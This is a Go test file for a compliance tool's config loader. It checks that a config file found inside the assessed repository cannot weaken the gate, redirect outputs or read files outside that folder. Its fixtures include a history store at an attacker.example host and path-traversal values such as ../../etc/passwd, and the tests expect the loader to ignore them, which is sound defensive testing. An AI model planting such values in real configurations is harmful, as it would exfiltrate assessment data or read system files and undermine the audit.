package config

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/pflag"
)

// weakening is a tollgate.yaml that tries everything a repository under
// assessment must not decide for itself.
const weakening = `gate:
  fail_on: none
  min_coverage: 0
  baseline: old/results.json
catalogs: [my-controls]
waivers: [policy/waivers.hcl]
output:
  dir: ../escaped
  formats: [json]
history:
  store: postgres://collector@db.attacker.example/loot
`

// TestDiscoveredConfigCannotWeakenTheAssessment guards that a tollgate.yaml
// found inside the folder being assessed (not named with --config) cannot
// lower the gate, set a baseline, add catalogs or send outputs outside that
// folder, that the keys it ignores are named, and that the same file named
// explicitly applies in full.
func TestDiscoveredConfigCannotWeakenTheAssessment(t *testing.T) {
	t.Chdir(t.TempDir())
	repo := filepath.Join(t.TempDir(), "repo")
	if err := os.MkdirAll(repo, 0o755); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(repo, FileName)
	if err := os.WriteFile(file, []byte(weakening), 0o600); err != nil {
		t.Fatal(err)
	}

	cfg, err := Load("", []string{repo}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if cfg.File != file {
		t.Fatalf("file = %q", cfg.File)
	}
	c := cfg.Config
	if c.Gate.FailOn != "high" || c.Gate.Baseline != "" || len(c.Catalogs) != 0 || c.Output.Dir != "tollgate-out" || c.History.Store != "" {
		t.Errorf("weakening settings applied: %+v", c)
	}
	// What does not weaken anything still applies.
	if len(c.Waivers) != 1 || c.Waivers[0] != filepath.Join(repo, "policy", "waivers.hcl") || strings.Join(c.Output.Formats, ",") != "json" {
		t.Errorf("other settings lost: %+v", c)
	}
	want := []string{"gate.fail_on", "gate.baseline", "catalogs", "output.dir", "history.store"}
	if !slices.Equal(cfg.Ignored, want) {
		t.Errorf("ignored = %v, want %v", cfg.Ignored, want)
	}
	w := cfg.Warning()
	for _, s := range append([]string{file, "--config"}, want...) {
		if !strings.Contains(w, s) {
			t.Errorf("warning %q does not name %q", w, s)
		}
	}

	explicit, err := Load(file, []string{repo}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	e := explicit.Config
	if e.Gate.FailOn != "none" || e.Gate.Baseline == "" || len(e.Catalogs) != 1 || e.Output.Dir != filepath.Join(repo, "..", "escaped") {
		t.Errorf("a file named with --config must apply in full: %+v", e)
	}
	if len(explicit.Ignored) != 0 || explicit.Warning() != "" {
		t.Errorf("explicit file reported ignored keys: %v", explicit.Ignored)
	}
}

// TestDiscoveredConfigTrust covers which discovered files count as inside
// the assessed tree, and which of their settings still apply.
func TestDiscoveredConfigTrust(t *testing.T) {
	tests := []struct {
		name string
		body string
		// layout: the file goes in cwd ("cwd") or in the assessed folder ("repo")
		in       string
		assessed func(repo, cwd string) []string
		flags    []string
		env      map[string]string
		check    func(t *testing.T, c Config, repo, cwd string)
		ignored  []string
	}{
		{name: "stricter gate applies", body: "gate: {fail_on: medium, min_coverage: 50}\n", in: "repo",
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Gate.FailOn != "medium" || c.Gate.MinCoverage != 50 {
					t.Errorf("gate = %+v", c.Gate)
				}
			}},
		{name: "fail_on critical is laxer", body: "gate: {fail_on: critical}\n", in: "repo", ignored: []string{"gate.fail_on"},
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Gate.FailOn != "high" {
					t.Errorf("fail_on = %q", c.Gate.FailOn)
				}
			}},
		{name: "output inside the folder applies, relative to the file", body: "output: {dir: reports/out}\n", in: "repo",
			check: func(t *testing.T, c Config, repo, _ string) {
				if c.Output.Dir != filepath.Join(repo, "reports", "out") {
					t.Errorf("output.dir = %q", c.Output.Dir)
				}
			}},
		{name: "output through a link out of the folder", body: "output: {dir: link/out}\n", in: "repo", ignored: []string{"output.dir"},
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Output.Dir != "tollgate-out" {
					t.Errorf("output.dir = %q", c.Output.Dir)
				}
			}},
		{name: "absolute output elsewhere", body: "output: {dir: /tmp/elsewhere}\n", in: "repo", ignored: []string{"output.dir"}},
		{name: "waivers and attestations outside the folder", body: "waivers: [w.hcl, ../w.hcl, /etc/w.hcl]\nattestations: [link/a.hcl]\n", in: "repo",
			ignored: []string{"waivers", "attestations"},
			check: func(t *testing.T, c Config, repo, _ string) {
				if len(c.Waivers) != 1 || c.Waivers[0] != filepath.Join(repo, "w.hcl") || len(c.Attestations) != 0 {
					t.Errorf("waivers = %v, attestations = %v", c.Waivers, c.Attestations)
				}
			}},
		{name: "a policy inside the folder applies, relative to the file", body: "policy: policy\n", in: "repo",
			check: func(t *testing.T, c Config, repo, _ string) {
				if c.Policy != filepath.Join(repo, "policy") {
					t.Errorf("policy = %q", c.Policy)
				}
			}},
		{name: "a policy outside the folder", body: "policy: ../org-policy\n", in: "repo", ignored: []string{"policy"},
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Policy != "" {
					t.Errorf("policy = %q", c.Policy)
				}
			}},
		{name: "a policy through a link out of the folder", body: "policy: link/policy.cue\n", in: "repo", ignored: []string{"policy"}},
		{name: "a flag that sets the key wins without a notice", body: "gate: {fail_on: none}\n", in: "repo", flags: []string{"--fail-on", "low"},
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Gate.FailOn != "low" {
					t.Errorf("fail_on = %q", c.Gate.FailOn)
				}
			}},
		{name: "a variable that sets the key wins without a notice", body: "gate: {fail_on: none}\n", in: "repo", env: map[string]string{"TOLLGATE_GATE_FAIL_ON": "critical"},
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Gate.FailOn != "critical" {
					t.Errorf("fail_on = %q", c.Gate.FailOn)
				}
			}},
		{name: "working-directory file while assessing the working directory", body: "gate: {fail_on: none}\n", in: "cwd",
			assessed: func(_, cwd string) []string { return []string{"."} }, ignored: []string{"gate.fail_on"}},
		{name: "working-directory file while assessing another folder", body: "gate: {fail_on: none}\ncatalogs: [c]\n", in: "cwd",
			assessed: func(repo, _ string) []string { return []string{repo} },
			check: func(t *testing.T, c Config, _, _ string) {
				if c.Gate.FailOn != "none" || len(c.Catalogs) != 1 {
					t.Errorf("the operator's own file must apply: %+v", c)
				}
			}},
		{name: "working-directory file whose sources include itself", body: "sources: {paths: [.]}\ngate: {fail_on: none}\n", in: "cwd",
			assessed: func(string, string) []string { return nil }, ignored: []string{"gate.fail_on"}},
		{name: "working-directory file naming other sources", body: "sources: {paths: [sub]}\ngate: {fail_on: none}\n", in: "cwd",
			assessed: func(string, string) []string { return nil }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cwd := t.TempDir()
			t.Chdir(cwd)
			repo := filepath.Join(t.TempDir(), "repo")
			if err := os.MkdirAll(filepath.Join(cwd, "sub"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.MkdirAll(repo, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(t.TempDir(), filepath.Join(repo, "link")); err != nil {
				t.Skipf("symbolic links unavailable: %v", err)
			}
			dir := repo
			if tt.in == "cwd" {
				dir = cwd
			}
			if err := os.WriteFile(filepath.Join(dir, FileName), []byte(tt.body), 0o600); err != nil {
				t.Fatal(err)
			}
			for k, v := range tt.env {
				t.Setenv(k, v)
			}
			assessed := []string{repo}
			if tt.assessed != nil {
				assessed = tt.assessed(repo, cwd)
			}
			flags := pflag.NewFlagSet("test", pflag.ContinueOnError)
			flags.String("fail-on", "high", "")
			if err := flags.Parse(tt.flags); err != nil {
				t.Fatal(err)
			}
			cfg, err := Load("", assessed, flags, map[string]string{"gate.fail_on": "fail-on"})
			if err != nil {
				t.Fatal(err)
			}
			if cfg.File == "" {
				t.Fatal("no file found")
			}
			if !slices.Equal(cfg.Ignored, tt.ignored) {
				t.Errorf("ignored = %v, want %v", cfg.Ignored, tt.ignored)
			}
			if (cfg.Warning() == "") != (len(tt.ignored) == 0) {
				t.Errorf("warning = %q", cfg.Warning())
			}
			if tt.check != nil {
				tt.check(t, cfg.Config, repo, cwd)
			}
		})
	}
}

// TestDiscoveredConfigCannotReadAnSSPOutsideTheTree: the system security
// plan is read to be hashed, so a discovered file may not name one outside
// the assessed folder; one inside it, or a URL, applies.
func TestDiscoveredConfigCannotReadAnSSPOutsideTheTree(t *testing.T) {
	t.Chdir(t.TempDir())
	repo := filepath.Join(t.TempDir(), "repo")
	if err := os.MkdirAll(repo, 0o755); err != nil {
		t.Fatal(err)
	}
	for ssp, ignored := range map[string]bool{"../../etc/passwd": true, "docs/ssp.json": false, "https://grc.example/ssp.json": false} {
		if err := os.WriteFile(filepath.Join(repo, FileName), []byte("assessment:\n  ssp: "+ssp+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		cfg, err := Load("", []string{repo}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if got := slices.Contains(cfg.Ignored, "assessment.ssp"); got != ignored {
			t.Errorf("ssp %s: ignored = %v, want %v (ssp %q)", ssp, got, ignored, cfg.Config.Assessment.SSP)
		}
	}
}
